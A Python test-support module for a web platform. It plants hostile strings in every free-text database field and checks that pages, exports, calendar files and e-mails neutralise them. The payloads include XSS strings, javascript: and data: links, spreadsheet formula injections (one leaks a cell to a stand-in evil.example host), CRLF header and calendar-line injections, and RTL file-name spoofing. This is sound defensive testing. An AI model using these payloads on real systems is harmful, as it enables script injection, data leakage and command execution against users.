"""Hostile data for every free-text and link field, written straight into the rows (as an old row, an
import or another client might have left them), and the checks that no page, export, calendar or
e-mail lets any of it act: no live script, no javascript:/data: link, no live spreadsheet formula,
no injected calendar line.

FREE_TEXT names each model's fields a person can type; NOT_FREE_TEXT every other text column with
why it is not filled. A test checks the two cover every String/Text column, so a new column must be
classified here before it can ship.
"""
from __future__ import annotations

import contextlib
import csv
import io
import itertools
import re
from html.parser import HTMLParser

from openpyxl import load_workbook
from sqlalchemy import Enum, String, inspect, select, text, update

from ecosystem.extensions import db
from ecosystem.models import Base

LONG = ("<script>alert('xss-long')</script>" + "Đổi mới sáng tạo " * 5_880).ljust(100_000, ".")
PAYLOADS = (
    '<script>alert("xss-1")</script>',
    '"><img src=x onerror=alert("xss-2")>',
    "'><svg onload=alert('xss-3')>",
    'javascript:alert("xss-4")',
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzLTUnKTwvc2NyaXB0Pg==",
    '<svg xmlns="http://www.w3.org/2000/svg"><script>alert("xss-6")</script></svg>',
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    '+cmd|" /C calc"!A0',
    '@SUM(1+1)*cmd|" /C calc"!A0',
    "-2+3+cmd|' /C calc'!A0",
    "Công ty \u202egnp.exe\u202c Việt",
    '</textarea></title><script>alert("xss-7")</script>',
    '<a href="javascript:alert(\'xss-8\')" style="position:fixed">bấm</a>',
    "Hội thảo\r\nX-INJECT:1\r\nBEGIN:VALARM",
    "JaVaScRiPt:alert('xss-9')",
    "{{ 7*7 }}{% raw %}${7*7}",
)
FREE_TEXT = {
    "Audience": ("name",),
    "Broadcast": ("subject", "body", "subject_en", "body_en"),
    "ApiToken": ("name",),
    "WebhookDelivery": ("response_excerpt",),
    "Organisation": ("name", "name_en", "description", "street", "website", "email", "phone", "city", "ward",
                     "former_province", "former_district"),
    "StartupProfile": ("product", "customers"),
    "Person": ("full_name", "title", "bio", "email", "phone", "city", "ward", "former_province",
               "former_district"),
    "InvestorProfile": ("geography",),
    "Sector": ("name_vi", "name_en"),
    "Relationship": ("round", "cohort", "role_title", "note"),
    "Event": ("title", "title_en", "venue", "online_url", "description"),
    "Registration": ("name",),
    "Attendance": ("name",),
    "EventFeedback": ("comment",),
    "OfficeHourSlot": ("place", "online_url", "note", "topic"),
    "ClubMembershipRequest": ("message",),
    "SupportRequest": ("title", "description", "decline_reason"),
    "SupportComment": ("body",),
    "SupportRequestEvent": ("note",),
    "UploadedFile": ("original_name",),
    "Introduction": ("message", "connector_note", "target_note"),
    "CohortPlan": ("title",),
    "MatchFeedback": ("note",),
    "MentorRating": ("comment",),
    "Nomination": ("title", "summary", "return_reason"),
    "NominationMember": ("role_title",),
    "NominationDocument": ("original_name",),
    "AwardConflict": ("note",),
    "ScoreEntry": ("reason",),
    "AwardCycle": ("name", "name_en", "authority"),
    "AwardCategory": ("name", "name_en"),
    "AwardRound": ("name", "name_en"),
    "CertApplication": ("note", "decision_note"),
    "CertDocument": ("original_name",),
    "CertProduct": ("name",),
    "CertResult": ("title", "document_number", "issuer"),
    "CertStep": ("note",),
    "Certificate": ("authority_vi", "authority_en", "revocation_decision", "revocation_note"),
    "CertificateEvent": ("note",),
    "AnnualReport": ("incentives_note",),
    "StFund": ("decision_number",),
    "FundEntry": ("override_reason", "reference", "note", "attachment_name"),
    "OrgOwnership": ("reference",),
    "ProgrammeTarget": ("title_vi", "title_en", "owner_vi", "owner_en", "note_vi", "note_en", "retired_reason"),
    "TargetFigure": ("source",),
    "ImportRun": ("filename", "failure"),
    "Notification": ("title", "body", "link"),
    "OutboxMessage": ("subject", "body"),
    "PrivacyRequest": ("details", "outcome", "refusal_reason"),
    "StandardCertificate": ("certificate_number", "certification_body"),
    "TechContactRequest": ("message",),
    "TechDeal": ("abandoned_reason",),
    "TechDealEvent": ("note",),
    "TechDemand": ("problem", "title"),
    "TechOffer": ("ip_number", "summary", "title"),
    "IPRecord": ("title", "number"),
    "Lab": ("name", "description", "equipment", "services", "accreditation", "certificate_number",
            "recognition_number"),
    "CooperationAgreement": ("title", "scope"),
}
URL_PAYLOADS = ('javascript:alert("xss-url")', " JaVaScRiPt:alert('xss-url')", "java\tscript:alert(1)",
                "data:text/html,<script>alert('xss-url')</script>", "vbscript:msgbox(1)", "//evil.example/x")
# A stored file name goes into a Content-Disposition header: line breaks, quotes, an RTL override.
FILE_NAME = 'hồ sơ";\r\nX-INJECT: 1\u202egpj.exe'
FILE_NAME_FIELDS = {("UploadedFile", "original_name"), ("NominationDocument", "original_name"),
                    ("CertDocument", "original_name"), ("FundEntry", "attachment_name")}
URL_FIELDS = {("Organisation", "website"), ("Event", "online_url"), ("OfficeHourSlot", "online_url"),
              ("Notification", "link")}
LONG_FIELDS = {("Organisation", "description"), ("Person", "bio"), ("Event", "description"), ("Lab", "equipment"),
               ("SupportRequest", "description"), ("SupportComment", "body"), ("Nomination", "summary")}
_CODES = "a code from a vocabulary or rule set, checked on input"
NOT_FREE_TEXT = {
    "slug": "an identifier made by the app", "tax_code": "validated digits", "search_key": "derived from names",
    "code": _CODES, "kind": _CODES, "status": _CODES, "type_code": _CODES, "rule_set_code": _CODES,
    "checklist_code": _CODES, "type": _CODES, "action": _CODES, "object_type": _CODES, "op": _CODES,
    "edge_source": _CODES, "source": "where a row came from (an import, the app)", "method": _CODES,
    "purpose": _CODES, "frequency": _CODES, "measure": _CODES, "indicator": _CODES, "unit": _CODES,
    "contest": _CODES, "legal_basis": _CODES, "separated_by": _CODES, "public_vote_share": "a number",
    "revocation_ground": _CODES, "status_from": _CODES, "status_to": _CODES, "from_state": _CODES,
    "to_state": _CODES, "given_by": _CODES, "ip_status": _CODES, "revenue_band": _CODES, "locale": _CODES,
    "baseline_value": "a number as text", "target_value": "a number as text", "value": "a number as text",
    "number": "a certificate number made by the app", "key": "a settings or cache key", "job_id": _CODES,
    "claimed_by": "a process name", "error": "an exception text", "address": "the client's IP address",
    "to": "an address validated on input", "password_hash": "a hash", "token": "a random token",
    "token_hash": "a hash", "sha256": "a hash", "storage_name": "a random file name",
    "attachment_path": "a random file name", "mime": "sniffed from the content", "attachment_mime": "sniffed",
    "idempotency_key": "a random key", "idem_key": "a random key", "submit_token": "a random key",
    "checkin_code": "a random code",
}
NOT_FREE_TEXT_COLUMNS = {("User", "email"): "a login, validated on input (the hostile test signs in with it)",
                         ("EventInvitation", "email"): "validated on input", ("LoginAttempt", "email"): "a log",
                         ("LoginThrottle", "email"): "a log",
                         ("Registration", "email"): "copied from the account", ("AuditEntry", "action"): _CODES,
                         ("Consent", "notice_version"): "a version code of the notice, from the settings",
                         ("OutboxMessage", "message_id"): "made by the app (email.utils.make_msgid)",
                         ("ReachProfile", "zalo_phone"): "normalised to +84… on input",
                         ("ReachProfile", "calendar_token_hash"): "a hash",
                         ("ExternalIdentity", "provider"): "a configured provider's key",
                         ("ExternalIdentity", "subject"): "the provider's opaque id",
                         ("ExternalIdentity", "email"): "as the identity provider vouched for it",
                         ("ExternalIdentity", "how"): _CODES,
                         ("Broadcast", "reply_to"): "validated on input (email_validator)",
                         ("InternationalPartner", "country"): "an ISO 3166 code checked on input",
                         ("DigestSend", "edition"): "a yyyy-mm edition made by the app",
                         ("ApiToken", "prefix"): "the first characters of a random token",
                         ("ApiToken", "scopes"): _CODES,
                         ("IdempotentResponse", "request_path"): "the API path the key was sent to",
                         ("Webhook", "url"): "validated on input (safe_url: http(s) only)",
                         ("Webhook", "events"): _CODES, ("Webhook", "secret"): "a random key",
                         ("WebhookDelivery", "event"): _CODES, ("WebhookDelivery", "state"): _CODES}


def text_columns() -> set[tuple[str, str]]:
    """(model, attribute) of every String/Text column that is not an enum."""
    found = set()
    for mapper in Base.registry.mappers:
        for attr in mapper.column_attrs:
            kind = attr.columns[0].type
            if isinstance(kind, String) and not isinstance(kind, Enum):
                found.add((mapper.class_.__name__, attr.key))
    return found


def unclassified() -> list[str]:
    """Text columns neither filled with hostile data nor explained in NOT_FREE_TEXT(_COLUMNS)."""
    filled = {(model, field) for model, fields in FREE_TEXT.items() for field in fields}
    return sorted(f"{m}.{a}" for m, a in text_columns() - filled
                  if a not in NOT_FREE_TEXT and (m, a) not in NOT_FREE_TEXT_COLUMNS)


def fill_every_text_field() -> int:
    """Overwrite every FREE_TEXT field of every row with a payload (cut to the column's length, as
    PostgreSQL would require), by plain UPDATEs as an old row or another client would have left it
    (append-only ledgers refuse ORM changes); returns how many values were written."""
    db.session.flush()
    models = {mapper.class_.__name__: mapper.class_ for mapper in Base.registry.mappers}
    cycle, links, written = itertools.cycle(PAYLOADS), itertools.cycle(URL_PAYLOADS), 0
    for name, fields in FREE_TEXT.items():
        mapper = inspect(models[name])
        table, keys = mapper.local_table, mapper.primary_key
        for ident in db.session.execute(select(*keys)).all():
            values = {}
            for field in fields:
                column = mapper.columns[field]
                value = LONG if (name, field) in LONG_FIELDS else FILE_NAME if (name, field) in FILE_NAME_FIELDS \
                    else next(links) if (name, field) in URL_FIELDS else next(cycle)
                values[column.name] = value[:column.type.length] if column.type.length else value
            with ledger_open(table.name):
                db.session.execute(update(table).where(*(k == v for k, v in zip(keys, ident))).values(values))
            written += len(values)
    db.session.expire_all()
    return written


@contextlib.contextmanager
def ledger_open(table_name: str):
    """Planting hostile text in old ledger rows needs the database's append-only triggers lifted
    for that statement (the app itself never updates the ledger)."""
    if table_name != "fund_entries":
        yield
        return
    postgres = db.session.get_bind().dialect.name == "postgresql"
    if postgres:
        db.session.execute(text("ALTER TABLE fund_entries DISABLE TRIGGER fund_entries_append_only"))
    else:
        db.session.execute(text("DROP TRIGGER IF EXISTS fund_entries_no_update"))
    try:
        yield
    finally:
        if postgres:
            db.session.execute(text("ALTER TABLE fund_entries ENABLE TRIGGER fund_entries_append_only"))
        else:
            from ecosystem.models.funds import SQLITE_APPEND_ONLY
            db.session.execute(text(SQLITE_APPEND_ONLY[0]))


class _Markup(HTMLParser):
    """Every tag and attribute a page or SVG holds, as the browser would parse them."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        values = dict(attrs)
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=…> event handler")
            elif name == "style":
                self.problems.append(f"<{tag} style=…> (refused by the CSP)")
            elif name in ("href", "src", "action", "formaction", "xlink:href", "poster", "data") and value:
                target = re.sub(r"[\x00-\x20]", "", value).lower()
                if target.startswith(("javascript:", "vbscript:")) or (
                        target.startswith("data:") and not (tag == "img" and target.startswith("data:image/"))):
                    self.problems.append(f"<{tag} {name}={value[:60]!r}>")
        if tag == "script" and not (values.get("src") or "").startswith("/static/"):
            self.problems.append(f"<script> not from /static/: {values}")
        if tag in ("iframe", "object", "embed", "base", "frame", "frameset"):
            self.problems.append(f"<{tag}>")
        if tag == "meta" and "url=" in (values.get("content") or "").lower():
            self.problems.append("<meta refresh> to another address")

    handle_startendtag = handle_starttag


def markup_problems(text: str) -> list[str]:
    parser = _Markup()
    parser.feed(text)
    parser.close()
    return parser.problems


_FORMULA = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
_NUMBER = re.compile(r"-?\d+([.,]\d+)?")


def _live_formula(value) -> bool:
    return isinstance(value, str) and value.startswith(_FORMULA) and not _NUMBER.fullmatch(value)


def csv_problems(data: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    return [f"formula {cell[:40]!r}" for row in rows for cell in row if _live_formula(cell)]


def xlsx_problems(data: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(data))
    return [f"{sheet.title}!{cell.coordinate} {str(cell.value)[:40]!r}"
            for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if cell.data_type == "f" or _live_formula(cell.value)]


def ics_problems(data: bytes) -> list[str]:
    lines = data.decode("utf-8").replace("\r\n ", "").split("\r\n")
    problems = [f"injected line {line[:40]!r}" for line in lines
                if line.startswith(("X-INJECT", "BEGIN:VALARM")) or (line and not re.match(r"^[A-Z-]+[;:]", line))]
    return problems + [f"URL {line[:60]!r}" for line in lines
                       if line.startswith("URL:") and not line.startswith(("URL:http://", "URL:https://"))]
